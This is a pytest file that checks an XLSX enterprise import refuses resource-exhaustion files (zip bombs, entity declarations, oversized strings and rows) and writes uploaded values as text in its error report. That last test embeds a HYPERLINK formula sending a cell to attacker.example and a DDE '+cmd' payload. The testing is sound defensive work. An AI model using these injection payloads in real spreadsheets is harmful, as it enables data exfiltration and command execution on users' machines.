"""The XLSX import refuses, with a message and at a bounded cost, files built to exhaust the server."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.exports import write_text_row
from enterprises import importing, xlsx_limits
from enterprises.models import Enterprise, EnterpriseImport
from enterprises.services import enterprise_import
from tests.enterprises.conftest import hcm_tax_code
from tests.enterprises.test_importing import HEADER, row, xlsx
from tests.enterprises.xlsx_files import (
    BASE,
    measure_parse,
    replace_parts,
    shared_strings_xml,
    sheet_xml,
    with_sheet,
)

# Each hostile file below is refused within these, whatever its size up to the upload limit.
CPU_SECONDS = 1.5
MEMORY_MB = 48


def _upload(data: bytes, name="danh-sach.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=importing.__name__)


def _blank_rows(count: int) -> bytes:
    return b"".join(b'<row r="%d"/>' % n for n in range(2, count + 2))


def test_a_sheet_of_blank_rows_stops_at_the_line_bound_quickly():
    data = with_sheet(_blank_rows(50_000))
    assert len(data) < 150_000
    cost = measure_parse(data)
    assert not cost.crashed
    assert "hơn 21.001 dòng (kể cả dòng trống)" in cost.errors[0]
    assert cost.cpu_seconds < CPU_SECONDS, cost


def test_rows_of_unmapped_columns_count_as_lines_too():
    body = b"".join(b'<row r="%d"><c r="Z%d"><v>1</v></c></row>' % (n, n) for n in range(2, 100_000))
    cost = measure_parse(with_sheet(body))
    assert "hơn 21.001 dòng" in cost.errors[0]
    assert cost.cpu_seconds < CPU_SECONDS, cost


def test_a_row_number_far_down_the_sheet_is_not_padded_with_a_million_blank_lines():
    body = b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    cost = measure_parse(with_sheet(body))
    assert "hơn 21.001 dòng" in cost.errors[0]
    assert cost.cpu_seconds < CPU_SECONDS, cost


def test_one_huge_shared_string_is_refused_before_it_is_read():
    data = with_sheet(
        b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
        **{"xl/sharedStrings.xml": shared_strings_xml(b"a" * 150_000_000)},
    )
    assert len(data) < 200_000
    cost = measure_parse(data)
    assert "xl/sharedStrings.xml" in cost.errors[0] and "quá giới hạn 24 MB" in cost.errors[0]
    assert cost.memory_mb < MEMORY_MB, cost
    assert cost.cpu_seconds < CPU_SECONDS, cost


def test_a_shared_string_within_the_size_bound_but_longer_than_any_cell_is_refused_unread():
    data = with_sheet(
        b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>',
        **{"xl/sharedStrings.xml": shared_strings_xml(b"a" * 900_000)},
    )
    cost = measure_parse(data)
    assert "dài hơn 128 kB" in cost.errors[0]
    assert cost.memory_mb < MEMORY_MB, cost


def test_a_long_cell_is_refused_naming_its_row_and_cell_and_nothing_is_imported(cast):
    lines = [row(hcm_tax_code(n)) for n in range(11)]
    lines[10] = row(hcm_tax_code(10), **{"Địa chỉ": "Lũy Bán Bích " * 300})  # sheet row 12, column D
    result = enterprise_import(actor=cast.staff_hcm, file=xlsx(lines))
    assert not result.ok
    assert [(e.row, e.column, e.message) for e in result.errors] == [
        (12, "Địa chỉ", "Dòng 12, ô D: nội dung dài quá 2.000 ký tự.")
    ]
    assert not Enterprise.objects.filter(tax_code=hcm_tax_code(0)).exists()


def test_a_long_cell_in_an_unmapped_column_is_named_by_its_letter():
    parsed = importing.parse_enterprise_file(xlsx([row(hcm_tax_code(1)) + ["x" * 2_001]]))
    assert [(e.row, e.column, e.message) for e in parsed.errors] == [
        (2, "N", "Dòng 2, ô N: nội dung dài quá 2.000 ký tự.")
    ]
    assert parsed.rows == []


def test_a_row_of_a_million_cells_is_refused_before_openpyxl_builds_it():
    cells = b"".join(b"<c><v>%d</v></c>" % (n * 7919 % 1_000_003) for n in range(60_000))
    data = with_sheet(b'<row r="2">' + cells + b"</row>")
    cost = measure_parse(data)
    assert "có hơn 20.000 ô" in cost.errors[0]
    assert cost.memory_mb < MEMORY_MB, cost
    assert cost.cpu_seconds < CPU_SECONDS, cost


def test_columns_beyond_the_bound_are_not_read():
    header = [""] * importing.MAX_COLUMNS + ["Mã số thuế", "Tên doanh nghiệp"]
    parsed = importing.parse_enterprise_file(
        xlsx([[""] * importing.MAX_COLUMNS + [hcm_tax_code(1), "A"]], header=header)
    )
    assert "Thiếu cột bắt buộc" in parsed.errors[0].message


def test_a_highly_compressed_part_is_refused_from_the_zip_directory():
    body = b"<row><c/></row>" * 200_000  # 3 MB of XML compressing about 1000 times
    cost = measure_parse(with_sheet(body))
    assert "nén quá 150 lần" in cost.errors[0]
    assert cost.cpu_seconds < 0.5, cost


def test_entity_declarations_are_refused():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY c "<c><v>1</v></c>">]><worksheet xmlns="'
        + b'http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + b"<row>"
        + b"&c;" * 50
        + b"</row></sheetData></worksheet>"
    )
    parsed = importing.parse_enterprise_file(io.BytesIO(replace_parts({"xl/worksheets/sheet1.xml": bomb})))
    assert parsed.errors[0].message == "Tệp bị hỏng hoặc không phải là bảng tính Excel (.xlsx) hợp lệ."


def test_a_zip_without_the_workbook_part_is_not_an_xlsx():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<document/>")
    parsed = importing.parse_enterprise_file(io.BytesIO(out.getvalue()))
    assert "không phải là bảng tính Excel" in parsed.errors[0].message


def test_too_many_parts_are_refused():
    parts = {f"xl/media/image{n}.png": b"x" for n in range(xlsx_limits.MAX_MEMBERS)}
    parsed = importing.parse_enterprise_file(io.BytesIO(replace_parts(parts)))
    assert "thành phần" in parsed.errors[0].message


BROKEN = {
    "not a zip": b"Ma so thue;Ten\n0300588569;A\n",
    "truncated zip": BASE[: len(BASE) // 2],
    "broken sheet XML": with_sheet(b'<row r="2"><c r="A2"><v>1</v></c></row'),
    "shared string index out of range": with_sheet(
        b'<row r="2"><c r="A2" t="s"><v>999</v></c></row>', **{"xl/sharedStrings.xml": shared_strings_xml(b"a")}
    ),
    "number that is not a number": with_sheet(b'<row r="2"><c r="A2" t="n"><v>1e99999x</v></c></row>'),
    "broken workbook XML": replace_parts({"xl/workbook.xml": b"<workbook><sheets><sheet"}),
    "UTF-16 sheet": replace_parts({"xl/worksheets/sheet1.xml": sheet_xml(b"").decode().encode("utf-16")}),
}


@pytest.mark.parametrize("data", BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_file_gets_a_message_through_the_upload_page_and_nothing_is_saved(cast, login, data):
    before = Enterprise.objects.count()
    response = login(cast.staff_hcm).post(reverse("enterprises:import_upload"), {"file": _upload(data)})
    assert response.status_code == 200
    html = response.content.decode()
    assert "chưa lưu dòng nào" in html
    assert "Excel (.xlsx) hợp lệ" in html or "Thiếu cột bắt buộc" in html
    assert Enterprise.objects.count() == before
    assert EnterpriseImport.objects.get().status == EnterpriseImport.Status.FAILED


def _text_upload(lines) -> SimpleUploadedFile:
    """An upload whose cells are text cells, even those starting with "=" (openpyxl would make formulas)."""
    workbook = Workbook()
    sheet = workbook.active
    for line in [HEADER, *lines]:
        write_text_row(sheet, line)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _upload(buffer.getvalue())


def test_the_error_report_writes_uploaded_values_as_text_not_formulas(cast, login):
    client = login(cast.staff_hcm)
    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    file = _text_upload([row(hostile), row(hcm_tax_code(2), **{"Giải thưởng": "+cmd|' /C calc'!A0"})])
    client.post(reverse("enterprises:import_upload"), {"file": file})
    record = EnterpriseImport.objects.get()
    report = client.get(reverse("enterprises:import_report", kwargs={"public_id": record.public_id}))
    sheet = load_workbook(io.BytesIO(report.content)).active
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert hostile in values
    assert any(isinstance(value, str) and value.startswith("+cmd|") for value in values)
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith(("=", "+", "@")))
